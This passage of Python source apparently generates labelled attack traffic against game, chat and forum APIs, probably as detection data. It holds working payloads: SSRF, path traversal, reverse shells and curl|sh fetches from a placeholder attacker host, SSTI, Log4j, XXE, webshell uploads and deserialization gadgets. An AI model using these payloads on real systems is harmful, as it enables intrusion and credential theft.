    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://2130706433:8080/admin",
    "http://0x7f.0x0.0x0.0x1/server-status",
    "http://0177.0.0.1/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[::1]:6379/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://localtest.me:8500/v1/agent/self",
    "http://127.1:9000/minio/admin/v3/info",
    "http://0/",
    "http://consul.service.consul:8500/v1/kv/?recurse",
    "http://vault.vault.svc.cluster.local:8200/v1/secret/data/prod",
    "http://cdn.example.com@169.254.169.254/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:8008/_synapse/admin/v1/users/@admin:example.org",
    "http://169.254.170.2/v2/credentials/",
    "http://10.0.0.5:9200/_cat/indices?v",
    "http://localhost:8008/_synapse/admin/v2/users?from=0&limit=100",
    "http://metadata/computeMetadata/v1/project/project-id",
    "http://instance-data/latest/user-data",
    "https://%s/redirect?to=http://169.254.169.254/latest/meta-data/" % ATK,
    "http://127.0.0.1:15020/metrics",
    "http://192.168.0.1/cgi-bin/luci",
    "ftp://127.0.0.1:21/etc/shadow",
    "http://%E2%91%A0%E2%91%A1%E2%91%A6.0.0.1/",
    "http://localhost:4040/api/tunnels",
]

LFI_URL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..%252f..%252f..%252fetc%252fshadow",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/etc/passwd%00.png",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "/proc/self/cwd/config/server.properties",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../home/steam/.steam/config/config.vdf",
    "..%2F..%2F..%2F.env",
    "../../../../root/.ssh/id_rsa",
    "/..;/..;/..;/etc/passwd",
    "..///..///..///etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    ".%2e/.%2e/.%2e/etc/group",
    "..%u2216..%u2216..%u2216etc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/maps",
    "..%2f..%2f..%2f..%2fhomeserver.yaml",
    "../../../../opt/game/server/ops.json",
    "/var/log/nginx/access.log",
    "....\\\\....\\\\....\\\\boot.ini",
    "..%255c..%255c..%255cinetpub%255cwwwroot%255cweb.config",
]
LFI_PLAIN = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\Windows\\System32\\config\\SAM",
    "/proc/self/environ",
    "../../../../var/lib/game/secrets/rcon.txt",
    "/etc/shadow",
    "....//....//....//etc/hosts",
    "../../../../../../root/.bash_history",
    "C:\\Windows\\win.ini",
    "../../plugins/LuckPerms/../../../../etc/passwd",
    "file:///etc/passwd",
]

RCE = [
    "say hello; cat /etc/passwd",
    "kick player1 && curl http://%s/x.sh | sh" % ATK,
    "$(wget -qO- http://%s/a|sh)" % ATK,
    "status `id`",
    "127.0.0.1 | nc %s 4444 -e /bin/bash" % ATK,
    "list; bash -i >& /dev/tcp/%s/4444 0>&1" % ATK,
    "127.0.0.1;id",
    "save-all;cat${IFS}/etc/passwd",
    "say hi & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "eu-1.game.example.com | type C:\\Windows\\win.ini",
    "status;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'" % ATK,
    "veryfast; curl -s http://%s/p | sh" % ATK,
    "1280x720|id",
    "128k$(id)",
    "users;id;",
    "list\nwhoami",
    ";/bin/busybox wget http://%s/mips -O /tmp/m;chmod 777 /tmp/m;/tmp/m" % ATK,
    "time set day; echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64 -d>/var/www/html/s.php",
    "||ping -c 10 127.0.0.1||",
    "00:00:05; sleep 10 #",
    "nightly && /usr/bin/id",
    "status || cmd.exe /c whoami",
    "say x;perl -e 'use Socket;$i=\"%s\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'" % ATK,
    "a;{cat,/etc/passwd}",
    ";c''at /e\"\"tc/pa''sswd",
    ";/???/??t /???/p??s??",
    "-f null /dev/null; rm -rf /srv/game/worlds",
    "help;curl${IFS}http://%s/$(whoami)" % ATK,
    "LIVE & ping -n 20 127.0.0.1 &",
    "$(printf 'id')",
    "-x264-params keyint=60 -f null - && nc -lvp 4444 -e /bin/sh",
    "1.1.1.1 `sleep 5`",
]
RCE_CODE = [  # code evaluated by a bot / mod scripting endpoint
    "require('child_process').exec('curl http://%s/$(id)')" % ATK,
    "__import__('os').popen('id').read()",
    "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
    "Runtime.getRuntime().exec(\"/bin/sh -c id\")",
]

SSTI = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"ls\").read()}}{%endif%}{% endfor %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "<%= `id` %>",
    "<%= system(\"cat /etc/passwd\") %>",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "#{T(java.lang.System).getenv()}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{php}echo `id`;{/php}",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('whoami').read()}}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "{{7*'7'}} {{config.items()}}",
    "${{<%[%'\"}}%\\.",
]

LOG4J = [
    "${jndi:ldap://%s:1389/a}" % ATK,
    "${jndi:rmi://%s/Exploit}" % ATK,
    "${${lower:j}ndi:${lower:l}dap://%s/a}" % OOB,
    "${${::-j}${::-n}${::-d}${::-i}:ldap://%s/z}" % OOB,
    "${jndi:dns://${env:USER}.%s}" % OOB,
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/a}" % ATK,
    "${jnd${upper:i}:ldaps://%s/a}" % ATK,
    "${jndi:ldap://${sys:java.version}.%s/}" % OOB,
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/x}" % ATK,
    "gg ${jndi:ldap://%s/mc}" % OOB,
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/q}" % ATK,
    "${${lower:${lower:jndi}}:${lower:rmi}://%s/poc}" % ATK,
]

CRLF_URI = [
    "/ws/chat?room=lobby%0d%0aSet-Cookie:%20session=attacker",
    "/api/redirect?next=/rooms%0d%0aLocation:%20http://" + ATK + "/",
    "/events?channel=news%0d%0a%0d%0a<script>alert(1)</script>",
    "/socket.io/?EIO=4&transport=polling&t=x%0d%0aX-Forwarded-Host:%20evil.example.net",
    "/hls/live/abc/index.m3u8?token=abc%0aContent-Length:%200%0a%0aHTTP/1.1%20200%20OK",
    "/api/replays/download?name=match.dem%0d%0aContent-Disposition:%20attachment;filename=evil.html",
    "/api/lang?set=en%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
    "/api/v1/avatar?size=64%0d%0aAccess-Control-Allow-Origin:%20*",
    "/login?return_to=%2Flobby%0D%0ALink:%20%3Chttp://" + ATK + "/x.css%3E;rel=stylesheet",
    "/oauth/callback?state=xyz%0d%0a%0d%0a%3Chtml%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/hubs/chat/negotiate?negotiateVersion=1%0d%0aX-Injected:%201",
]


# ------------------------------------------------------------------ NoSQL
def a_nosql():
    A = "attack"
    host = pick(H_GAME)
    cases = [
        ("POST", "/api/v1/auth/login", {"username": {"$ne": None}, "password": {"$ne": None}}),
        ("POST", "/api/v1/players/lookup", {"player_id": {"$gt": ""}}),
        ("POST", "/api/v1/players/search", {"name": {"$regex": "^a.*"}, "$where": "sleep(5000)"}),
        ("POST", "/api/v1/clans/find", {"$where": "this.members.length > 0 || sleep(5000)"}),
        ("POST", "/api/v1/leaderboard/query", {"filter": {"$or": [{"role": "admin"}, {"_id": {"$exists": True}}]}, "limit": 100}),
        ("POST", "/api/v1/players/lookup", {"clan": {"$in": []}, "$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}),
        ("POST", "/api/v1/auth/reset", {"token": {"$gt": ""}, "password": "NewPass123!"}),
        ("POST", "/api/v1/friends/redeem", {"code": {"$nin": ["0000"]}}),
        ("POST", "/api/v1/matches/aggregate", {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1}}]}),
        ("POST", "/api/v1/inventory/find", {"owner": "me", "$where": "function(){return this.owner != ''}"}),
        ("POST", "/api/v1/auth/login", {"email": {"$regex": ".*@example\\.com"}, "password": {"$exists": True}}),
    ]
    for m, path, body in cases:
        emit(A, "nosqli", "profile", m, path, native(host, auth=bearer()) if chance(0.5) else web(host, accept="application/json"), J(body), "application/json")
    for qs in ["username[$ne]=x&password[$ne]=x", "playerId[$regex]=.*&playerId[$options]=si", "login[email][$ne]=1&login[password][$gt]=",
               "name[$where]=sleep(5000)"]:
        m = "POST" if chance(0.5) else "GET"
        if m == "POST":
            emit(A, "nosqli", "profile", m, "/api/v1/auth/login", web(host, accept="application/json"), qs, "application/x-www-form-urlencoded")
        else:
            emit(A, "nosqli", "profile", m, "/api/v1/players?" + qs.replace("[", "%5B").replace("]", "%5D") if chance(0.5) else "/api/v1/players?" + qs,
                 web(host, accept="application/json", origin=False))
    # Rocket.Chat-style DDP method with an operator in the token (account takeover class)
    for params in ([{"token": {"$regex": "^a"}}], [{"msg": "x", "rid": {"$ne": None}}]):
        inner = {"msg": "method", "method": pick(["getPasswordPolicy", "loadHistory"]), "params": params, "id": str(R.randint(2, 90))}
        emit(A, "nosqli", "rocketchat", "POST", "/sockjs/%d/%s/xhr_send" % (R.randint(100, 999), lower(8)), web(pick(H_RC), accept="*/*"),
             J([J(inner)]), "text/plain;charset=UTF-8")
    # socket.io lookup event
    emit(A, "nosqli", "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid_engineio()), web(host, accept="*/*"),
         "42%d" % R.randint(1, 30) + J(["player:lookup", {"name": {"$regex": ".*"}, "banned": {"$ne": True}, "email": {"$exists": True}}]), "text/plain;charset=UTF-8")
    # Firebase-shaped query param with a JS operator is not Mongo; skip.  Nakama storage list with $where
    emit(A, "nosqli", "nakama", "POST", "/v2/rpc/find_players?unwrap", native(host, ua=GAME_UAS[6], auth=bearer()),
         J({"query": {"$where": "this.wallet.gems > 0 || sleep(3000)"}}), "application/json")


# ------------------------------------------------------------------- LDAP
def a_ldap():
    A = "attack"
    for v in ["*)(uid=*))(|(uid=*", "admin)(|(password=*))", "*)(objectClass=*", "jdoe)(&)", "*)(memberOf=cn=admins,ou=groups,dc=example,dc=org",
              "x*)(|(mail=*", "*))%00", "(|(cn=*)(userPassword=*))"]:
        k = R.randint(0, 3)
        if k == 0:
            host = pick(H_MM)
            emit(A, "ldapi", "mattermost", "POST", "/api/v4/users/login", web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"]]),
                 J({"device_id": "", "login_id": v, "password": alnum(12), "token": "", "ldap_only": True}), "application/json")
        elif k == 1:
            host = pick(H_RC)
            inner = {"msg": "method", "method": "login", "params": [{"ldap": True, "username": v, "ldapPass": alnum(12), "ldapOptions": {}}], "id": str(R.randint(1, 9))}
            emit(A, "ldapi", "rocketchat", "POST", "/sockjs/%d/%s/xhr_send" % (R.randint(100, 999), lower(8)), web(host, accept="*/*"), J([J(inner)]),
                 "text/plain;charset=UTF-8")
        elif k == 2:
            host = pick(H_CHAT)
            emit(A, "ldapi", "directory", "GET", "/api/v1/directory?text=%s&type=users&workspace=local" % qb(v), web(host, accept="application/json", origin=False))
        else:
            host = pick(H_ADMIN)
            emit(A, "ldapi", "admin", "POST", "/admin/ldap/groups/search", web(host, accept="application/json"),
                 form([("q", v), ("base", "ou=groups,dc=example,dc=org")]), "application/x-www-form-urlencoded")


# -------------------------------------------------------------------- RFI
def a_rfi():
    A = "attack"
    cases = [("/forum/index.php?theme=%s", "http://%s/shell.txt?" % ATK), ("/panel/lang.php?lang=%s", "https://%s/evil.php%%00" % ATK),
             ("/skins/load.php?skin=%s", "ftp://%s/b.php" % ATK), ("/game/news.php?page=%s", "http://%s/x.txt??" % ATK),
             ("/forum/viewtopic.php?t=12&style=%s", "//%s/s.php" % ATK), ("/server/status.php?inc=%s", "http:%%2f%%2f%s%%2fx" % ATK)]
    for path, v in cases:
        host = pick(H_FORUM + H_ADMIN)
        emit(A, "rfi", "forum", "GET", path % v,
             web(host, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", origin=False, mode="navigate", dest="document"))
    host = pick(H_ADMIN)
    emit(A, "rfi", "admin", "POST", "/admin/plugins/install.php", web(host, accept="text/html,*/*", mode="navigate", dest="document"),
         form([("plugin_url", "http://%s/webshell.txt?" % ATK), ("activate", "1")]), "application/x-www-form-urlencoded")
    emit(A, "rfi", "forum", "POST", "/forum/adm/index.php?i=styles&mode=install", web(pick(H_FORUM), accept="text/html,*/*", mode="navigate", dest="document"),
         form([("template_path", "https://%s/raw/abc.php?" % ATK), ("submit", "Install")]), "application/x-www-form-urlencoded")


# -------------------------------------------------------------------- PHP
SER_SAVE = 'O:8:"SaveGame":3:{s:5:"level";i:12;s:4:"path";s:26:"../../../../../etc/passwd";s:6:"loader";O:19:"Monolog\\Handler\\Pipe":1:{s:3:"cmd";s:2:"id";}}'


def a_php():
    A = "attack"
    host = pick(H_FORUM + H_GAME)
    gadget = 'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";r:1;}}'
    emit(A, "php", "saves", "PUT", "/api/saves/slot1", native(host, auth=bearer()), J({"version": 3, "blob": SER_SAVE}), "application/json")
    emit(A, "php", "saves", "POST", "/game/save.php", web(host, accept="*/*"), form([("slot", "2"), ("data", gadget)]), "application/x-www-form-urlencoded")
    emit(A, "php", "saves", "GET", "/game/continue.php", web(host, accept="text/html,*/*", origin=False, cookie_extra=["save=" + q(b64(SER_SAVE))]))
    emit(A, "php", "mods", "GET", "/mods/view.php?file=php://filter/convert.base64-encode/resource=../config.php", web(host, accept="*/*", origin=False))
    emit(A, "php", "profile", "POST", "/api/v1/players/me/avatar", web(host, accept="application/json"),
         J({"avatarPath": "phar://./uploads/avatars/%s.jpg/test.txt" % digits(5)}), "application/json")
    emit(A, "php", "forum", "GET", "/forum/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2B&c=id", web(host, accept="*/*", origin=False))
    emit(A, "php", "forum", "GET", "/forum/index.php?page=expect://id", web(host, accept="*/*", origin=False))
    emit(A, "php", "mods", "GET", "/mods/include.php?mod=zip://uploads/mods/%s.zip%%23shell.php" % digits(4), web(host, accept="*/*", origin=False))
    emit(A, "php", "forum", "POST", "/forum/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", web(host, accept="*/*"),
         "<?php echo shell_exec('id'); ?>", "application/x-www-form-urlencoded")
    c_forum_signature(A, "php", "<?php eval(base64_decode($_POST['x'])); ?>")
    # PHP shell disguised as a skin
    b = boundary_browser()
    body = multipart([("skin", b"GIF89a;\n<?php system($_GET['cmd']); ?>", "dragon.php.png", "image/png")], b)
    hs = [["Host", host], ["User-Agent", browser()[0]], ["Accept", "application/json"], ["Content-Type", "multipart/form-data; boundary=" + b], ["Cookie", cookie_web()]]
    emit_raw(A, "php", "uploads", raw_request("POST", "/api/skins/upload", hs, body))
    b = boundary_ff()
    body = multipart([("name", "Map pack"), ("file", b"<?=`$_GET[0]`?>", "mappack.phtml", "application/octet-stream")], b)
    hs = [["Host", host], ["User-Agent", browser()[0]], ["Accept", "*/*"], ["Content-Type", "multipart/form-data; boundary=" + b]]
    emit_raw(A, "php", "uploads", raw_request("POST", "/mods/upload.php", hs, body))


# -------------------------------------------------------------------- XXE
def a_xxe():
    A = "attack"
    bosh = ("<body rid='%d' sid='%s' xmlns='http://jabber.org/protocol/httpbind'>"
            "<message to='room@conference.example.org' type='groupchat' xmlns='jabber:client'><body>&xxe;</body></message></body>")
    host = pick(H_CHAT)
    emit(A, "xxe", "xmpp", "POST", "/http-bind", web(host, accept="*/*"),
         '<?xml version="1.0"?><!DOCTYPE body [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + bosh % (R.randint(10 ** 6, 10 ** 9), hexs(40)),
         "text/xml; charset=utf-8")
    emit(A, "xxe", "xmpp", "POST", "/http-bind", web(host, accept="*/*"),
         '<?xml version="1.0"?><!DOCTYPE body [<!ENTITY % dtd SYSTEM "http://' + ATK + '/evil.dtd"> %dtd;]>' + bosh % (R.randint(10 ** 6, 10 ** 9), hexs(40)),
         "text/xml; charset=utf-8")
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>'
           '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>')
    for path, field, fn in [("/api/v1/emoji", "image", "partyparrot.svg"), ("/api/stickers/upload", "file", "gg.svg")]:
        b = boundary_browser()
        body = multipart([("name", fn.split(".")[0]), (field, svg, fn, "image/svg+xml")], b)
        hs = [["Host", pick(H_CHAT)], ["User-Agent", browser()[0]], ["Accept", "application/json"], ["Authorization", bearer()],
              ["Content-Type", "multipart/form-data; boundary=" + b]]
        emit_raw(A, "xxe", "uploads", raw_request("POST", path, hs, body))
    mpd = ('<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>'
           '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="&x;" bandwidth="800000"/></AdaptationSet></Period></MPD>')
    emit(A, "xxe", "vod", "PUT", "/api/vod/%s/manifest" % uid(), native(pick(H_LIVE), auth=bearer()), mpd, "application/dash+xml")
    tmx = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE map [<!ENTITY leak SYSTEM "file:///srv/game/config/secrets.properties">]>'
           '<map version="1.10" orientation="orthogonal" width="64" height="64" tilewidth="32" tileheight="32"><properties><property name="title" value="&leak;"/></properties></map>')
    emit(A, "xxe", "maps", "POST", "/api/maps/import", native(pick(H_GAME), auth=bearer()), tmx, "application/xml")
    xi = ('<map xmlns:xi="http://www.w3.org/2001/XInclude" version="1.10"><properties><property name="credits">'
          '<xi:include href="file:///etc/passwd" parse="text"/></property></properties></map>')
    emit(A, "xxe", "maps", "POST", "/api/maps/import", native(pick(H_GAME), auth=bearer()), xi, "application/xml")
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
           '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
           '<rss version="2.0"><channel><title>&lol3;</title></channel></rss>')
    emit(A, "xxe", "forum", "POST", "/admin/feeds/import", web(pick(H_FORUM), accept="*/*"), lol, "application/rss+xml")
    emit(A, "xxe", "xmpp", "POST", "/http-bind", web(host, accept="*/*"),
         '<!DOCTYPE iq [<!ENTITY ssrf SYSTEM "http://127.0.0.1:5280/admin/">]><body rid="%d" xmlns="http://jabber.org/protocol/httpbind"><iq type="get"><query xmlns="jabber:iq:version">&ssrf;</query></iq></body>' % R.randint(10 ** 6, 10 ** 9),
         "text/xml; charset=utf-8")


# ------------------------------------------------------------------- Java
def java_ser_blob():
    """Bytes shaped like a serialized Commons-Collections gadget chain."""
    cls = [b"org.apache.commons.collections.functors.InvokerTransformer", b"org.apache.commons.collections.map.LazyMap",
           b"sun.reflect.annotation.AnnotationInvocationHandler", b"java.lang.Runtime"]
    out = b"\xac\xed\x00\x05sr\x00\x32" + b"sun.reflect.annotation.AnnotationInvocationHandler" + rbytes(8) + b"\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;"
    for c in cls:
        out += b"sr\x00" + bytes([len(c)]) + c + rbytes(10) + b"xp"
    return out + b"t\x00\x04execuq\x00~\x00\x1et\x00\x08/bin/sh -c id"


def a_java():
    A = "attack"
    for i, p in enumerate(LOG4J):
        k = i % 4
        if k == 0:
            pick(MSG_CARRIERS[:10])(A, "java", p)
        elif k == 1:
            pick([c_nick, c_clan, c_lobby, c_presence, c_ws_query])(A, "java", p)
        elif k == 2:  # headers that game and chat servers log
            host = pick(H_GAME + H_CHAT)
            hn = pick(["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "X-Player-Name", "X-Client-Version"])
            h = native(host, auth=bearer())
            for x in h:
                if x[0] == hn:
                    x[1] = p
                    break
            else:
                h.append([hn, p])
            emit(A, "java", "headers", "GET", pick(["/api/v1/players/me", "/api/v1/lobbies", "/socket.io/?EIO=4&transport=polling&t=%s" % yeast(), "/hub/negotiate"]), h)
        else:  # Minecraft-style chat relay (JSON text component)
            host = pick(H_GAME)
            emit(A, "java", "minecraft", "POST", "/api/chat/relay", native(host, ua="Java/17.0.10", auth=bearer()),
                 J({"server": "survival-1", "player": pick(NICKS), "message": {"text": p, "color": "white"}}), "application/json")
    host = pick(H_GAME)
    blob = java_ser_blob()
    emit(A, "java", "saves", "PUT", "/api/v1/saves/slot3", native(host, ua=pick(GAME_UAS), auth=bearer()),
         J({"version": "1.4.2", "data": b64(blob)}), "application/json")
    hs = [["Host", host], ["User-Agent", "Java/17.0.10"], ["Accept", "*/*"], ["Content-Type", "application/x-java-serialized-object"], ["Authorization", bearer()]]
    emit_raw(A, "java", "saves", raw_request("POST", "/api/v1/saves/import", hs, blob))
    emit(A, "java", "saves", "GET", "/game/resume", web(host, accept="text/html,*/*", origin=False, cookie_extra=["GAMESTATE=" + b64(blob)]))
    emit(A, "java", "gamestate", "POST", "/api/v1/sessions/%s/state" % uid(), native(host, auth=bearer()),
         J({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://%s:1099/Exploit" % ATK, "autoCommit": True}), "application/json")
    emit(A, "java", "gamestate", "POST", "/api/v1/sessions/%s/state" % uid(), native(host, auth=bearer()),
         J({"entity": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://%s:1389/Exploit" % ATK, "autoCommit": True}]}), "application/json")
    emit(A, "java", "admin", "POST", "/admin/servers/update", web(pick(H_ADMIN), accept="*/*"),
         form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"),
               ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
               ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT")]), "application/x-www-form-urlencoded")
    h = native(pick(H_GAME), ua=pick(SERVER_UAS))
    h.append(["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://%s/x\")" % ATK])
    emit(A, "java", "functions", "POST", "/functionRouter", h, "matchmaking", "text/plain")
    h = native(pick(H_ADMIN), ua=browser()[0])
    h.append(["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"])
    emit(A, "java", "admin", "GET", "/admin/console.action", h)


# ------------------------------------------- generic: pollution and deserialisation
def a_generic():
    A = "attack"
    host = pick(H_GAME + H_DOCS)
    cases = [
        ("PATCH", "/api/v1/players/me", "application/json", J({"displayName": "Nova", "__proto__": {"isAdmin": True}})),
        ("PATCH", "/api/v1/players/me/settings", "application/json", J({"constructor": {"prototype": {"role": "admin"}}})),
        ("PATCH", "/api/docs/%s" % uid(), "application/json-patch+json", J([{"op": "add", "path": "/__proto__/polluted", "value": "yes"}])),
        ("PATCH", "/api/docs/%s" % uid(), "application/json-patch+json", J([{"op": "replace", "path": "/constructor/prototype/shell", "value": "/proc/self/exe"}])),
        ("POST", "/sharedb/ops", "application/json", J({"a": "op", "c": "docs", "d": uid(), "v": 12, "op": [{"p": ["__proto__", "outputFunctionName"], "oi": "x;process.mainModule.require('child_process').execSync('id');s"}]})),
        ("POST", "/api/v1/sessions/%s/state" % uid(), "application/json", J({"diff": {"players": {"__proto__": {"shell": "node", "NODE_OPTIONS": "--require /proc/self/environ", "env": {"A": "console.log(require('child_process').execSync('id').toString())//"}}}}})),
        ("POST", "/api/v1/settings/merge", "application/json", J({"theme": {"__proto__": {"sourceURL": "\nreturn process.mainModule.require('child_process').execSync('id')//"}}})),
        ("PUT", "/api/v1/saves/slot1", "application/json", J({"save": "_$$ND_FUNC$$_function(){require('child_process').exec('curl http://%s/$(id)')}()" % ATK})),
        ("PUT", "/api/v1/saves/slot2", "application/json", J({"format": "pickle", "data": b64(b"cos\nsystem\n(S'curl http://" + ATK.encode() + b"/p|sh'\ntR.")})),
        ("POST", "/api/mods/config", "application/x-yaml", "name: better-maps\nloader: !!python/object/apply:os.system [\"curl http://%s/y | sh\"]\n" % ATK),
        ("POST", "/api/v1/sessions/%s/state" % uid(), "application/json",
         J({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start",
            "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c calc"]},
            "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}})),
        ("PUT", "/api/v1/saves/slot4", "application/json", J({"format": "binaryformatter", "data": "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5BQEAAACEAVN5c3RlbS5Db2xsZWN0aW9ucy5HZW5lcmljLlNvcnRlZFNldGAxW1tTeXN0ZW0uU3RyaW5nLCBtc2NvcmxpYl1dBAAAAAVDb3VudAhDb21wYXJlcgdWZXJzaW9uBUl0ZW1zAAMABgiNAVN5c3RlbS5Db2xsZWN0aW9ucy5HZW5lcmljLkNvbXBhcmlzb25Db21wYXJlcmAx"})),
        ("POST", "/api/v1/state/apply", "application/json", J({"path": "constructor.prototype.isAdmin", "value": True})),
    ]
    for m, path, ct, body in cases:
        emit(A, "generic", "gamestate", m, path, native(host, auth=bearer()) if chance(0.5) else web(host, accept="application/json", auth=bearer()), body, ct)
    for qs in ["__proto__[isAdmin]=true", "__proto__.role=admin", "constructor[prototype][isAdmin]=true", "a[__proto__][polluted]=1"]:
        emit(A, "generic", "profile", "GET", "/api/v1/players/me?" + qs, web(host, accept="application/json", origin=False))
    for ev in (["state:patch", {"path": "__proto__.outputFunctionName", "value": "x;process.mainModule.require('child_process').execSync('id');s"}],
               ["room:update", {"settings": {"constructor": {"prototype": {"allowAll": True}}}}]):
        emit(A, "generic", "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid_engineio()), web(pick(H_GAME), accept="*/*"),
             "42" + J(ev), "text/plain;charset=UTF-8")
    inv = {"type": 1, "invocationId": "4", "target": "UpdateLoadout",
           "arguments": [{"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install", "Path": "file:///%s/share/x.dll" % ATK}]}
    emit(A, "generic", "signalr", "POST", "/hubs/game?id=%s" % alnum(22, B64U), web(pick(H_GAME), accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"]]),
         J(inv) + "\x1e", "text/plain;charset=UTF-8")


# --------------------------------------------------------------- protocol
def a_protocol():
    A = "attack"

    def base(host, path, extra=()):
        return [["Host", host], ["User-Agent", browser()[0]]] + [list(x) for x in extra]

